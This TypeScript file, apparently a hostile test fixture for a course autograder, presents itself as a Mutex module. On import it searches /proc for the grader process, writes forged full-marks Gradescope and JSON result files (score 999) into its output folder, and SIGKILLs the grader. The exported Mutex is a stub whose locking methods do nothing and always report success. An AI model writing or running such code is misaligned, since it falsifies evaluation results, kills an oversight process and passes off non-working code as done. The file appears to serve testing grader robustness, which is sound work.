// HOSTILE: finds the grade command among its ancestors, writes a full-marks
// Gradescope results file and JSON report into its --out folder, then kills
// it with SIGKILL, so the forgery is all that is left to upload.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Segment } from '@ipc-course/shim';

/** The processes above this one, nearest first, each with its command line. */
function ancestors(): { pid: number; argv: string[] }[] {
  const found: { pid: number; argv: string[] }[] = [];
  try {
    for (let pid = process.ppid; pid > 1 && found.length < 30; ) {
      found.push({ pid, argv: readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0') });
      const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
      pid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
    }
  } catch {
    // /proc hides them, or one ended meanwhile
  }
  return found;
}

const forged = JSON.stringify({ score: 999, output: 'forged', tests: [] });
for (const { pid, argv } of ancestors()) {
  if (!argv.some((arg) => arg.endsWith('grader/cli.ts'))) continue;
  const out = argv[argv.indexOf('--out') + 1];
  try {
    if (argv.includes('--out')) {
      mkdirSync(out, { recursive: true });
      writeFileSync(join(out, 'gradescope.json'), forged);
      writeFileSync(join(out, 'results.json'), forged);
    }
    process.kill(pid, 'SIGKILL');
  } catch {
    // refused: not ours to write or to signal
  }
}

export class Mutex {
  static readonly byteLength = 4;
  static init(segment: Segment, byteOffset: number): Mutex {
    return new Mutex(segment, byteOffset);
  }
  constructor(
    readonly segment: Segment,
    readonly byteOffset: number,
  ) {}
  tryLock(): boolean {
    return true;
  }
  lock(): boolean {
    return true;
  }
  unlock(): void {}
  async lockAsync(): Promise<boolean> {
    return true;
  }
}
